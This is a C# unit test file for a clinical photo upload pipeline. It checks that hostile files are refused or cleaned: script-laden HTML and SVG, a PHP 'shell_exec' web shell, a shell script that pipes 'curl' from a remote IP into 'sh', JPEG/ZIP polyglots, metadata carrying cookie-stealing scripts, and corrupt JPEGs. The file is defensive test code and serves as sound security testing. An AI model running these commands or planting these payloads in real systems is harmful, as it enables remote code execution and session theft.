using System.Collections.Concurrent;
using System.Text;
using ClinicalImages.Web.Features.Images;
using ImageMagick;
using ClinicalImages.TestHost;

namespace ClinicalImages.UnitTests.Images;

/// <summary>
/// Files an attacker (or a broken phone) could send, each built here from bytes. Every test states the one outcome it
/// expects: refused with a reason at a stage, or accepted with the hostile part gone. Memory is measured where a lie in
/// the file could make the server allocate far more than the upload's size. Pixel floods and bombs: HostileFloodTests.
/// </summary>
[Collection(MeasuredAlone.Name)]
public sealed class HostileFileTests
{
    private const string NotAPicture = "This file is not a picture";
    private const string DamagedMessage = "This photo is damaged or incomplete — take or choose it again.";

    // What a GP might pick by mistake or an attacker might name photo.jpg: the name and declared type never reach the
    // pipeline, so only the bytes decide, and the decoder is never called (the stage is Signature).
    [Theory]
    [InlineData("<!DOCTYPE html><html><body><script>fetch('/api/session').then(r => r.text()).then(alert)</script></body></html>",
        "This file is not a picture (it looks like a web page). Choose a photo (JPEG, PNG or HEIC).")]
    [InlineData("<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"64\" height=\"64\"><script>alert(document.cookie)</script><rect width=\"64\" height=\"64\"/></svg>",
        "This file is not a picture (it looks like an SVG drawing). Choose a photo (JPEG, PNG or HEIC).")]
    [InlineData("<?php echo shell_exec($_GET['cmd']); ?>\n",
        "This file is not a picture (it looks like a PHP script). Choose a photo (JPEG, PNG or HEIC).")]
    [InlineData("#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n",
        "This file is not a picture. Choose a photo (JPEG, PNG or HEIC).")]
    public async Task Normalise_WhenScriptIsNamedJpg_RefusesAsNotAnImageBeforeDecoding(string content, string message)
    {
        using var pipeline = TestImages.Pipeline();

        var ex = await Refused(pipeline, HostileSamples.Text(content));

        Assert.Equal((ImageRejection.NotAnImage, ImageCheckStage.Signature, message), (ex.Reason, ex.Stage, ex.Message));
    }

    [Fact]
    public async Task Normalise_WhenJpegIsAlsoAZipArchive_StoresThePhotoWithoutTheArchive()
    {
        using var pipeline = TestImages.Pipeline();
        const string Payload = "<?php echo shell_exec($_GET['cmd']); ?>";
        var polyglot = HostileSamples.JpegZipPolyglot(HostileSamples.QuadrantJpeg(), "shell.php", Payload);
        // The sample is what it claims: unzip finds the script, an image viewer finds the photo.
        Assert.Equal(Payload, HostileSamples.ReadZipEntry(polyglot, "shell.php"));
        using (var asJpeg = TestImages.Read(polyglot))
        {
            Assert.Equal(MagickFormat.Jpeg, asJpeg.Format);
        }

        var result = await pipeline.NormaliseAsync(new MemoryStream(polyglot), CancellationToken.None);

        foreach (var output in new[] { result.Jpeg, result.Thumbnail })
        {
            MetadataAssert.DoesNotContain(output, "PK\x03\x04"); // local file header
            MetadataAssert.DoesNotContain(output, "PK\x05\x06"); // end of central directory
            MetadataAssert.DoesNotContain(output, "shell_exec");
            Assert.Null(HostileSamples.ReadZipEntry(output, "shell.php"));
        }

        using var image = TestImages.Read(result.Jpeg);
        TestImages.AssertUprightQuadrants(image);
    }

    // Bytes after EOI are never decoded and never copied: the stored JPEG is encoded afresh from pixels. The same goes
    // for an application segment before the scan (a place a ZIP can hide that survives naive "trim after EOI" fixes).
    [Theory]
    [InlineData("html-after-eoi")]
    [InlineData("zip-after-eoi")]
    [InlineData("zip-in-app15-segment")]
    public async Task Normalise_WhenJpegCarriesAnotherFile_StoresThePhotoWithoutIt(string where)
    {
        using var pipeline = TestImages.Pipeline();
        var jpeg = HostileSamples.QuadrantJpeg();
        var zip = HostileSamples.JpegZipPolyglot([], "index.html", "<script>alert(1)</script>");
        var hostile = where switch
        {
            "html-after-eoi" => [.. jpeg, .. HostileSamples.Text("<html><script>alert(1)</script></html>")],
            "zip-after-eoi" => [.. jpeg, .. zip],
            _ => HostileSamples.WithSegment(jpeg, 0xEF, zip),
        };
        MetadataAssert.DoesNotContain(jpeg, "<script>");
        Assert.Contains("<script>", Encoding.Latin1.GetString(hostile), StringComparison.Ordinal);

        var result = await pipeline.NormaliseAsync(new MemoryStream(hostile), CancellationToken.None);

        MetadataAssert.DoesNotContain(result.Jpeg, "<script>");
        MetadataAssert.DoesNotContain(result.Jpeg, "PK\x03\x04");
        MetadataAssert.NoneLeft(result.Jpeg);
        using var image = TestImages.Read(result.Jpeg);
        TestImages.AssertUprightQuadrants(image);
    }

    // Cut before the scan header, the header read (ping) fails; cut anywhere in the scan, even just its EOI marker,
    // libjpeg only warns ("Premature end of JPEG file") and would fill the rest with grey. ADR 0005 §4: that warning is
    // damage, so the GP is asked to retake the photo rather than file half a wound.
    [Theory]
    [InlineData("soi-only", nameof(ImageCheckStage.Header))]
    [InlineData("inside-quantisation-table", nameof(ImageCheckStage.Header))]
    [InlineData("before-scan-header", nameof(ImageCheckStage.Header))]
    [InlineData("after-scan-header", nameof(ImageCheckStage.Decode))]
    [InlineData("half-the-scan", nameof(ImageCheckStage.Decode))]
    [InlineData("without-eoi", nameof(ImageCheckStage.Decode))]
    [InlineData("last-byte-missing", nameof(ImageCheckStage.Decode))]
    public async Task Normalise_WhenJpegIsTruncated_RefusesAsDamaged(string cut, string stage)
    {
        using var pipeline = TestImages.Pipeline();
        var jpeg = HostileSamples.Jpeg();
        var scan = HostileSamples.ScanDataOffset(jpeg);
        var length = cut switch
        {
            "soi-only" => 4,
            "inside-quantisation-table" => HostileSamples.SegmentOffset(jpeg, 0xDB) + 20,
            "before-scan-header" => HostileSamples.SegmentOffset(jpeg, 0xDA),
            "after-scan-header" => scan,
            "half-the-scan" => scan + ((jpeg.Length - scan) / 2),
            "without-eoi" => jpeg.Length - 2,
            _ => jpeg.Length - 1,
        };
        await pipeline.NormaliseAsync(new MemoryStream(jpeg), CancellationToken.None); // whole, it is a good photo

        var ex = await Refused(pipeline, jpeg[..length]);

        Assert.Equal((ImageRejection.Damaged, stage, DamagedMessage), (ex.Reason, ex.Stage.ToString(), ex.Message));
    }

    // None of these is accepted and re-encoded: the header faults stop the ping, and every scan fault makes libjpeg
    // report corrupt data (a warning it would otherwise paper over with grey or garbage), which counts as damage.
    [Theory]
    [InlineData("frame-claims-zero-size", nameof(ImageCheckStage.Header))]
    [InlineData("segment-length-runs-past-end", nameof(ImageCheckStage.Header))]
    [InlineData("frame-claims-more-than-the-scan-holds", nameof(ImageCheckStage.Decode))]
    [InlineData("restart-marker-without-restart-interval", nameof(ImageCheckStage.Decode))]
    [InlineData("entropy-data-scrambled-seed-1", nameof(ImageCheckStage.Decode))]
    [InlineData("entropy-data-scrambled-seed-2", nameof(ImageCheckStage.Decode))]
    public async Task Normalise_WhenJpegHasBadMarkersOrCorruptEntropyData_RefusesAsDamaged(string fault, string stage)
    {
        using var pipeline = TestImages.Pipeline();
        var jpeg = HostileSamples.Jpeg();
        var scan = HostileSamples.ScanDataOffset(jpeg);
        var damaged = fault switch
        {
            "frame-claims-zero-size" => HostileSamples.WithFrameSize(jpeg, 0, 0),
            "segment-length-runs-past-end" => [.. jpeg[..2], 0xFF, 0xE5, 0xFF, 0xFF, .. "junk"u8],
            "frame-claims-more-than-the-scan-holds" => HostileSamples.WithFrameSize(jpeg, 640, 480),
            "restart-marker-without-restart-interval" => [.. jpeg[..(scan + 100)], 0xFF, 0xD3, .. jpeg[(scan + 100)..]],
            "entropy-data-scrambled-seed-1" => HostileSamples.WithScrambledScan(jpeg, 1),
            _ => HostileSamples.WithScrambledScan(jpeg, 2),
        };

        var ex = await Refused(pipeline, damaged);

        Assert.Equal((ImageRejection.Damaged, stage), (ex.Reason, ex.Stage.ToString()));
    }

    // Several megabytes of ICC profile in 128 APP2 chunks: read, used to convert to sRGB, then stripped. Memory stays
    // at a few copies of the upload; the upload size cap (30 MB) is what bounds the profile.
    [Fact]
    public async Task Normalise_WhenJpegCarriesAnEightMegabyteIccProfile_StripsItWithMemoryBoundedByTheUpload()
    {
        using var pipeline = TestImages.Pipeline();
        var bloated = HostileSamples.JpegWithIccProfile(8 * 1024 * 1024);
        using (var input = TestImages.Read(bloated))
        {
            Assert.Equal(8 * 1024 * 1024, input.GetColorProfile()?.ToByteArray().Length);
        }

        NormalisedImage? result = null;
        var memory = await MemoryProbe.MeasureAsync(async () =>
            result = await pipeline.NormaliseAsync(new MemoryStream(bloated), CancellationToken.None));

        Assert.NotNull(result);
        Assert.True(result.Jpeg.Length < 64 * 1024, $"stored JPEG is {result.Jpeg.Length} B");
        MetadataAssert.NoneLeft(result.Jpeg);
        using var image = TestImages.Read(result.Jpeg);
        TestImages.AssertUprightQuadrants(image);
        Assert.True(memory.ManagedBytes < 8 * bloated.Length, $"{memory} for a {bloated.Length / MemoryProbe.Megabyte} MB upload");
        Assert.True(memory.PeakGrowthBytes < 16 * bloated.Length, $"{memory} for a {bloated.Length / MemoryProbe.Megabyte} MB upload");
    }

    // Metadata that a careless viewer or a Medtech export might render as HTML: the stored copy has none at all.
    [Theory]
    [InlineData("exif-image-description")]
    [InlineData("exif-user-comment")]
    [InlineData("xmp")]
    [InlineData("iptc-caption")]
    [InlineData("jpeg-comment")]
    [InlineData("png-text-chunk")]
    public async Task Normalise_WhenMetadataHoldsAScript_StoresThePhotoWithNoMetadata(string carrier)
    {
        using var pipeline = TestImages.Pipeline();
        const string Script = "<script>alert(document.cookie)</script>";
        var hostile = WithScriptIn(carrier, Script);
        Assert.Contains(Script, Encoding.Latin1.GetString(hostile), StringComparison.Ordinal);

        var result = await pipeline.NormaliseAsync(new MemoryStream(hostile), CancellationToken.None);

        foreach (var output in new[] { result.Jpeg, result.Thumbnail })
        {
            MetadataAssert.DoesNotContain(output, "<script");
            MetadataAssert.DoesNotContain(output, "document.cookie");
            MetadataAssert.NoneLeft(output);
        }

        using var image = TestImages.Read(result.Jpeg);
        TestImages.AssertUprightQuadrants(image);
    }

    // Real files of their kind, written by ImageMagick: refused from the magic bytes, never decoded.
    [Theory]
    [InlineData(MagickFormat.Gif, "GIF")]
    [InlineData(MagickFormat.Bmp, "BMP")]
    [InlineData(MagickFormat.Bmp3, "BMP")]
    public async Task Normalise_WhenGifOrBmp_RefusesAsUnsupportedNamingTheFormat(MagickFormat format, string name)
    {
        using var pipeline = TestImages.Pipeline();

        var ex = await Refused(pipeline, HostileSamples.Written(format));

        Assert.Equal(
            (ImageRejection.UnsupportedFormat, ImageCheckStage.Signature,
                $"This picture's format ({name}) can't be filed in Medtech. Choose a photo (JPEG, PNG or HEIC)."),
            (ex.Reason, ex.Stage, ex.Message));
    }

    [Fact]
    public async Task Normalise_WhenFileIsEmpty_RefusesAsEmptyAtTheSizeCheck()
    {
        using var pipeline = TestImages.Pipeline();

        var ex = await Refused(pipeline, []);

        Assert.Equal((ImageRejection.Empty, ImageCheckStage.Size, "This file is empty — take or choose the photo again."),
            (ex.Reason, ex.Stage, ex.Message));
    }

    [Theory]
    [InlineData(0xFF)]
    [InlineData(0x89)]
    [InlineData('<')]
    [InlineData(0x00)]
    public async Task Normalise_WhenFileIsOneByte_RefusesAsNotAnImage(byte only)
    {
        using var pipeline = TestImages.Pipeline();

        var ex = await Refused(pipeline, [only]);

        Assert.Equal((ImageRejection.NotAnImage, ImageCheckStage.Signature), (ex.Reason, ex.Stage));
        Assert.StartsWith(NotAPicture, ex.Message, StringComparison.Ordinal);
    }

    // A file that is a format's signature and nothing more goes to that one coder and fails its header read. The ISO
    // box header of 12 to 15 bytes once crashed the sniffer (ArgumentException from Math.Clamp: a 500, and the
    // upload left in storage); it is a damaged HEIC like any other.
    [Theory]
    [InlineData("jpeg-soi", new byte[] { 0xFF, 0xD8, 0xFF })]
    [InlineData("png-signature", new byte[] { 0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A })]
    [InlineData("riff-webp", new byte[] { 0x52, 0x49, 0x46, 0x46, 0, 0, 0, 0, 0x57, 0x45, 0x42, 0x50 })]
    [InlineData("ftyp-heic-12-bytes", new byte[] { 0, 0, 0, 0x18, 0x66, 0x74, 0x79, 0x70, 0x68, 0x65, 0x69, 0x63 })]
    [InlineData("ftyp-heic-15-bytes", new byte[] { 0, 0, 0, 0x18, 0x66, 0x74, 0x79, 0x70, 0x68, 0x65, 0x69, 0x63, 0, 0, 0 })]
    [InlineData("ftyp-heic-16-bytes", new byte[] { 0, 0, 0, 0x18, 0x66, 0x74, 0x79, 0x70, 0x68, 0x65, 0x69, 0x63, 0, 0, 0, 0 })]
    public async Task Normalise_WhenFileIsOnlyAFormatSignature_RefusesAsDamagedAtTheHeader(string signature, byte[] bytes)
    {
        using var pipeline = TestImages.Pipeline();

        var ex = await Refused(pipeline, bytes);

        Assert.True((ImageRejection.Damaged, ImageCheckStage.Header) == (ex.Reason, ex.Stage), $"{signature}: {ex.Reason} at {ex.Stage}");
    }

    // ImageMagick's HEIC coder has no in-memory path (ADR 0005): each read writes the upload to $TMPDIR/magick-*.
    // Refused at the header or in the decoder, that copy of a patient's photo must be gone when the call returns.
    [Fact]
    public async Task Normalise_WhenHeicIsRefused_LeavesNoTemporaryCopyBehind()
    {
        using var pipeline = TestImages.Pipeline();
        var before = MagickTemporaryFiles();
        var written = new ConcurrentQueue<string>();
        using var watcher = new FileSystemWatcher(Path.GetTempPath(), "magick-*") { EnableRaisingEvents = true };
        watcher.Created += (_, e) => written.Enqueue(e.Name ?? string.Empty);

        var flood = await Refused(pipeline, HostileSamples.HeicClaiming(30_000, 30_000));
        var hollow = await Refused(pipeline, HostileSamples.HeicClaiming(640, 480));

        Assert.Equal((ImageRejection.TooManyPixels, ImageCheckStage.Header), (flood.Reason, flood.Stage));
        Assert.Equal((ImageRejection.Damaged, ImageCheckStage.Decode), (hollow.Reason, hollow.Stage));
        // The copies were made (so this test watches the right folder)...
        await Poll.UntilAsync(() => !written.IsEmpty, TimeSpan.FromSeconds(5), "Magick writing its temporary copies");
        // ...and none is left.
        Assert.Equal(before, MagickTemporaryFiles());
    }

    internal static Task<ImageRejectedException> Refused(ImagePipeline pipeline, byte[] bytes) =>
        Assert.ThrowsAsync<ImageRejectedException>(() => pipeline.NormaliseAsync(new MemoryStream(bytes), CancellationToken.None));

    private static string[] MagickTemporaryFiles() => [.. Directory.GetFiles(Path.GetTempPath(), "magick-*").Order(StringComparer.Ordinal)];

    private static byte[] WithScriptIn(string carrier, string script)
    {
        using var photo = TestImages.Quadrants(320, 240);
        switch (carrier)
        {
            case "exif-image-description":
                var description = new ExifProfile();
                description.SetValue(ExifTag.ImageDescription, script);
                photo.SetProfile(description);
                break;
            case "exif-user-comment":
                var comment = new ExifProfile();
                comment.SetValue(ExifTag.UserComment, [.. "ASCII\0\0\0"u8, .. Encoding.ASCII.GetBytes(script)]);
                photo.SetProfile(comment);
                break;
            case "xmp":
                photo.SetProfile(new XmpProfile(Encoding.UTF8.GetBytes(
                    "<x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'>" +
                    $"<rdf:Description xmlns:dc='http://purl.org/dc/elements/1.1/'><dc:description><![CDATA[{script}]]></dc:description>" +
                    "</rdf:Description></rdf:RDF></x:xmpmeta>")));
                break;
            case "iptc-caption":
                var iptc = new IptcProfile();
                iptc.SetValue(IptcTag.Caption, script);
                photo.SetProfile(iptc);
                break;
            case "jpeg-comment":
                photo.Comment = script;
                break;
            default:
                return HostileSamples.WithPngChunk(photo.ToByteArray(MagickFormat.Png), HostileSamples.PngText("Comment", script));
        }

        return photo.ToByteArray(MagickFormat.Jpeg);
    }
}
